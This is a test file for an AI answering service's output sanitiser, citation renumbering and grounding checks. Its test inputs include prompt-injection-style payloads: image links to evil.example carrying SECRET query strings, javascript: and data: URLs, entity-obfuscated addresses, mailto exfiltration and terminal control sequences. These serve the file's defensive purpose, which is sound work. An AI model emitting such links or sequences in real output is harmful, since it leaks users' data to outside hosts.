import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { cleanOutput, isGrounded } from "../../src/ai/answer/check-output.ts";
import { SentenceGate } from "../../src/ai/answer/sentence-gate.ts";
import { embed } from "../../src/ai/providers/embed.ts";
import type { ModelSettings } from "../../src/ai/providers/service-providers.ts";
import { MOST_ANSWER_BYTES, readAnswer } from "../../src/ai/providers/read-answer.ts";
import { readEvents } from "../../src/ai/providers/read-events.ts";
import { rounds } from "../support/rounds.ts";

const DOCUMENTS = [
  "Teresa Almeida leads the network team in Porto.",
  "The backup of the Lisbon site runs at night. See https://wiki.example/backup for more.",
].map((snippet, at) => ({ id: `d.1:${at}`, snippet, source: "wiki", score: 0.9 }));

const SAID = fc.array(
  fc.constantFrom(
    "Teresa Almeida leads the network team [1]. ",
    "The backup of Lisbon runs at night. [2] ",
    "See https://wiki.example/backup [2]. ",
    "See https://evil.example/?q=1 [1]. ",
    "Bananas grow on Jupiter [1]. ",
    "Plums do not.\n",
    "<b>The network team",
    ' <a title="x. Y',
    '"> ',
    "![pixel](https://evil.example/a?b=1) ",
    "![pixel. Next](https://evil.ex",
    "ample/) ",
    "[7] ",
    "Both say so [2, 1]. ",
    "Teresa Almeida leads the network team [1]。",
    "」The backup of Lisbon runs at night！[2] ",
    "网络团队？",
    "Look at https://wiki.example/backup. ",
    "Nobody says so [8,9]. ",
    "Many say so [1-7]. ",
    "Few say [9], so [8] [9]. ",
    "[9]. ",
    "  [8]\n",
    "[9], ",
    "(as [9]) ",
    "no. ",
    "See https://evil.example/x.” ",
    "A thousand say so [ 1234 ]. ",
    "[x](//evil.example/?q=1) ",
    "See www.evil.example/a for it [1]. ",
    `See https://wiki.example/backup"more [2]. `,
    "[x](data:text/html,x) ",
    "<<b>img src=//x.example> ",
    "!<b>[x](//x.example) ",
    "!![x](y)[x](//x.example) ",
    "![99][x](//x.example) ",
    "[x]: data:text/html,x ",
    "&#60;img src=//x.example&#62; &excl;[x](//x.example) ",
    "[x](&#47;/x.example) https&colon;//evil.example/x ",
    "![x][r] ",
    "Well![1] ",
    "Dr. Almeida leads it [1]. ",
    "Teresa Almeida leads it【1†source】. ",
    "Lisbon runs at night [^2]. ",
    "See [it](https://evil.example/x) (https://evil.example) [9](https://evil.example) ",
    " http[9]s://evil.example/x ",
    "Teresa \u001bcAlmeida leads it\u0000\u009b [1]. ",
    "Teresa Almeida leads it\u202e [1].\u{e0073}\u{e0065} ",
    "!\u2066[x](//x.example) <\u{e0062}img src=//x.example> ",
  ),
  { maxLength: 12 },
);

describe("cleanOutput", () => {
  it.each([
    ["See https://wiki.example/backup.", "See https://wiki.example/backup."],
    ["See https://wiki.example/backup, then rest.", "See https://wiki.example/backup, then rest."],
    ["See https://wiki.example/backup[2].", "See https://wiki.example/backup[1]."],
    ["**https://wiki.example/backup**", "**https://wiki.example/backup**"],
    ["See https://wiki.example/backup.evil.example/ now", "See now"],
    ["See http://[::1]/x and https://[::1] now", "See and now"],
    ["See https://evil.example/a. Or (https://evil.example), or both.", "See. Or, or both."],
    [
      'See [the page](https://evil.example/a), or [x](https://evil.example "T").',
      "See the page, or x.",
    ],
    ["As said [1](https://evil.example/a), so (https://evil.example.).", "As said [1], so."],
    ["Nobody ([9]) nor [https://evil.example] says so.", "Nobody nor says so."],
    [
      "See [the page](https://wiki.example/backup).",
      "See [the page](https://wiki.example/backup).",
    ],
    ["Go http[9]s://evil.example/x or http(https://evil.example)s://evil.example now", "Go or now"],
    ["Go ht[tp](https://evil.example)://evil.example/x now", "Go ht[tp] ://evil.example/x now"],
  ])("keeps a document's address and removes any other: %s", (said, shown) => {
    expect(cleanOutput(said, DOCUMENTS).answer).toBe(shown);
  });

  // As pages write links of Markdown, and of addresses in plain text.
  it.each([
    ["[x](//evil.example/?q=SECRET) and go", "x and go"],
    ["[x](https:evil.example/SECRET) and go", "x and go"],
    [String.raw`[x](https:\\evil.example/SECRET) and go`, "x and go"],
    ["[x](ftp://evil.example/SECRET) and go", "x and go"],
    ["[x](javascript:alert(1)) and go", "[x] (javascript:alert(1)) and go"],
    ["[x](https&#58;&#47;&#47;evil.example) and go", "x and go"],
    ["[x](https&colon;&sol;&sol;evil.example) and go", "x and go"],
    ["Or &#104;ttps&#x3A;//evil.example/SECRET and go", "Or and go"],
    ["Or https&#38;#58;//evil.example and go", "Or https& #58; and go"],
    ["&#33;[x](//evil.example/SECRET) and &#60;img src=//evil.example&#62; go", "and  go"],
    ["AT&amp;T &lt;b&gt; a&b &Ntilde; &nothing; go", "AT&amp;T &lt;b&gt; a&b Ñ &nothing; go"],
    ["[x][r] and go\n\n[r]: //evil.example/SECRET", "[x][r] and go\n\n[r] :"],
    ["[r] and go\n\n[r]: evil.example/SECRET", "[r] and go\n\n[r] : evil.example/SECRET"],
    ["[r] and go\n> [r]: mailto:a@evil.example?body=SECRET", "[r] and go\n> [r] :"],
    [
      "[r] and go\n- [r]:\n  &#106;avascript:alert(1)",
      "[r] and go\n- [r] :\n  javascript:alert(1)",
    ],
    ["[1] and go\n\n[1]: <tel:123>", "[1] and go\n\n[1] :"],
    ["[x](mailto:a@evil.example) or mailto:a@evil.example, go", "x or, go"],
    ["Or www.evil.example/SECRET and go", "Or and go"],
    ["[x](https://wiki.example/backup) and go", "[x](https://wiki.example/backup) and go"],
    ["Paths a//b, C://d and // notes.", "Paths a//b, C://d and // notes."],
  ])("leaves no link to an address that is in no document: %s", (said, shown) => {
    expect(cleanOutput(said, DOCUMENTS).answer).toBe(shown);
  });

  it.each([`"`, "'", "]", "[", ">", ")", "[1]"])(
    "ends a document's address before %s and what follows",
    (sign) => {
      const { answer } = cleanOutput(`[x](https://wiki.example/backup${sign}SECRET)`, DOCUMENTS);
      expect(answer).not.toMatch(/backup\S*SECRET/);
      expect(answer).toMatch(/^\[x\]\(https:\/\/wiki\.example\/backup\(? .*SECRET\)$/);
    },
  );

  it("removes direction controls and hidden letters, and keeps emoji", () => {
    const said = "A\u202eB\u2066C\u{e0041} \u200eסוף 👩‍💻 ❤️.";
    expect(cleanOutput(said, DOCUMENTS).answer).toBe("ABC \u200eסוף 👩‍💻 ❤️.");
  });

  it("removes control characters that a terminal would obey, and keeps lines and tabs", () => {
    const said = "A\u001b]0;title\u0007\u0000B\u007f\u009b31m\tC\nD";
    expect(cleanOutput(said, DOCUMENTS).answer).toBe("A]0;titleB31m\tC\nD");
  });

  it.each([
    ["Both agree [2, 1].", "Both agree [1][2].", ["d.1:1", "d.1:0"]],
    ["Both agree [1,2] [2; 9].", "Both agree [1][2] [2].", ["d.1:0", "d.1:1"]],
    ["Nobody says so [7, 9].", "Nobody says so.", []],
    [
      "Nobody says so. [7] [8] They do [9][1], (see [9]) [9], and go.",
      "Nobody says so. They do [1], (see), and go.",
      ["d.1:0"],
    ],
    ["[9] Nobody.\n[8] [7] At all.[9] Or\n  [9]\nelse.", "Nobody.\nAt all. Or\n  \nelse.", []],
    ["All agree [1-2].", "All agree [1][2].", ["d.1:0", "d.1:1"]],
    ["More agree [2–999999999].", "More agree [1].", ["d.1:1"]],
    ["Nobody at all [5-9] [2-1] [0] [ 7 ] [4 , 6].", "Nobody at all.", []],
    ["One of many [1234] [ 1 ].", "One of many [1].", ["d.1:0"]],
    ["A footnote[^2], [^9] and ![^1].", "A footnote[1], and ! [2].", ["d.1:1", "d.1:0"]],
    ["Wide【2】【1†source】【7】［1］.", "Wide[1][2][2].", ["d.1:1", "d.1:0"]],
  ])("renumbers the citation marks in: %s", (said, shown, cited) => {
    const { answer, citations } = cleanOutput(said, DOCUMENTS);
    expect({ answer, cited: citations.map(({ id }) => id) }).toEqual({ answer: shown, cited });
  });
});

describe("isGrounded", () => {
  const snippet = "alpha bravo charlie delta echo 1194";
  const CITED = [{ id: "d.1:0", title: "Policy 2024", snippet, source: "w", score: 1 }];
  const HELD = "Alpha bravo kilo lima mike. ";
  const LOOSE = "Alpha kilo lima mike november. ";

  it.each([
    ["two of five words are in the cited text", HELD, true],
    ["one of five words is in the cited text", LOOSE, false],
    ["three of five sentences rest on the cited text", HELD.repeat(3) + LOOSE.repeat(2), true],
    ["one of two sentences rests on the cited text", HELD + LOOSE, false],
    ["the answer is empty", "", false],
    ["a figure is in the cited text", "Alpha bravo charlie 1194.", true],
    ["a figure is in the cited title", "Alpha bravo charlie of 2024.", true],
    ["a figure is in neither", "Alpha bravo charlie delta echo 51820.", false],
    ["a list is numbered", "1. Alpha bravo [1].\n2. Charlie delta [1].\n10. Echo alpha [1].", true],
  ])("if %s: %s is %s", (_when, answer, holds) => {
    expect(isGrounded({ answer, citations: CITED }, "en")).toBe(holds);
    // An answer without citations is never grounded.
    expect(isGrounded({ answer, citations: [] }, "en")).toBe(false);
  });
});

describe("SentenceGate", () => {
  it("releases only a grounded beginning of the cleaned answer, however the text is cut", () => {
    fc.assert(
      fc.property(SAID, fc.integer({ min: 1, max: 40 }), fc.boolean(), (sentences, step, isCut) => {
        const said = sentences.join("");
        const gate = new SentenceGate(DOCUMENTS, "en");
        let out = "";
        const cited: unknown[] = [];
        const take = ({ answer, citations }: { answer: string; citations: unknown[] }) => {
          out += answer;
          cited.push(...citations);
          if (out === "") return;
          expect(isGrounded({ answer: out, citations: gate.passed.citations }, "en")).toBe(true);
          expect(out).not.toMatch(
            /evil|<[a-z/!]|!\[|\[[3-9]\]|\[ ?\d+(?!\])|backup"|\]\(data|\]:/i,
          );
          expect(out).not.toMatch(/[\u202e\u2066\u{e0000}-\u{e007f}]/u);
        };
        for (let at = 0; at < said.length; at += step) take(gate.push(said.slice(at, at + step)));
        take(gate.finish(isCut));
        expect(out).toBe(gate.passed.answer);
        expect(cited).toEqual(gate.passed.citations);
        expect(cleanOutput(said, DOCUMENTS).answer.startsWith(out)).toBe(true);
      }),
      { numRuns: rounds(500) },
    );
  });

  it("leaves no tag and no image in text out of which a part was removed", () => {
    const { answer } = cleanOutput("A <<b>img src=//x.example> !![x](y)[z](//x.example) b", []);
    expect(answer).toBe("A < img src=> !z b");
    expect(cleanOutput("Well![1]", DOCUMENTS).answer).toBe("Well! [1]");
  });

  it("holds text back until its sentence has ended", () => {
    const gate = new SentenceGate(DOCUMENTS, "en");
    expect(gate.push("Teresa Almeida leads the network").answer).toBe("");
    expect(gate.push(" team [1]. ").answer).toBe("");
    expect(gate.push("And").answer).toBe("Teresa Almeida leads the network team [1].");
  });
});

function endlessly(piece: string) {
  let sent = 0;
  const bytes = new TextEncoder().encode(piece);
  const body = new ReadableStream<Uint8Array>({
    pull: (controller) => {
      sent += bytes.length;
      controller.enqueue(bytes);
      if (sent > 4 * MOST_ANSWER_BYTES) controller.close();
    },
  });
  return { body, sent: () => sent };
}

describe("readAnswer", () => {
  const read = async (answer: Response) =>
    readAnswer(answer, { now: Date.now }, { provider: crypto.randomUUID(), form: z.unknown() });

  it("gives up an answer that does not end", async () => {
    const { body, sent } = endlessly(" ".repeat(10_000));
    expect(await read(new Response(body))).toBeUndefined();
    expect(sent()).toBeLessThan(2 * MOST_ANSWER_BYTES);
  });

  it("reads an answer of the largest size, and none that is one byte larger", async () => {
    const text = `"${"x".repeat(MOST_ANSWER_BYTES - 2)}"`;
    expect(await read(new Response(text))).toHaveLength(MOST_ANSWER_BYTES - 2);
    expect(await read(new Response(`${text} `))).toBeUndefined();
  });

  it("reads JSON, and returns nothing for text that is not JSON", async () => {
    expect(await read(Response.json({ a: "ñ" }))).toEqual({ a: "ñ" });
    expect(await read(new Response("{"))).toBeUndefined();
  });
});

describe("embed", () => {
  const [texts, dimensions] = [["a", "b"], 1_536];
  const call = { texts, model: "m", dimensions, askDimensions: false, traceparent: "" };
  const said = (vector: number[]) => ({
    data: [vector, vector].map((embedding, index) => ({ index, embedding })),
  });

  const embedBy = async (answer: Response) => {
    const settings = {
      kind: "openai-compatible",
      name: crypto.randomUUID(),
      baseUrl: "https://x.test",
    };
    const outside = { fetch: async () => answer, now: Date.now };
    return embed({} as Cloudflare.Env, outside, settings as ModelSettings, call);
  };

  it("accepts vectors with all their digits and any white space in the JSON", async () => {
    const vector = Array.from(
      { length: dimensions },
      (_none, at) => -Math.PI / 10 ** (5 + (at % 9)),
    );
    const answer = new Response(JSON.stringify(said(vector), null, 12));
    expect(await embedBy(answer)).toMatchObject({ vectors: [vector, vector] });
  });

  it("gives up an answer that does not end", async () => {
    const { body, sent } = endlessly(" ".repeat(10_000));
    expect(await embedBy(new Response(body))).toBeUndefined();
    expect(sent()).toBeLessThan(MOST_ANSWER_BYTES);
  });
});

describe("readEvents", () => {
  it("gives up an event that does not end, even if it has many lines", async () => {
    const { body, sent } = endlessly(`data: ${"x".repeat(10_000)}\n`);
    const events = readEvents(body, 1_000);
    await expect(events.next()).rejects.toThrow("without an end");
    expect(sent()).toBeLessThan(MOST_ANSWER_BYTES);
  });

  it("reads the same events however the bytes are cut", async () => {
    const text =
      ': hello\n\ndata: {"a":"ñ"}\r\n\r\nevent: x\ndata: one\ndata: two\n\ndata:last\n\n';
    const bytes = new TextEncoder().encode(text);
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: bytes.length }), async (step) => {
        const body = new ReadableStream<Uint8Array>({
          start(controller) {
            for (let at = 0; at < bytes.length; at += step) {
              controller.enqueue(bytes.slice(at, at + step));
            }
            controller.close();
          },
        });
        const events: string[] = [];
        for await (const event of readEvents(body, 1_000)) events.push(event);
        expect(events).toEqual(['{"a":"ñ"}', "one\ntwo", "last"]);
      }),
    );
  });
});
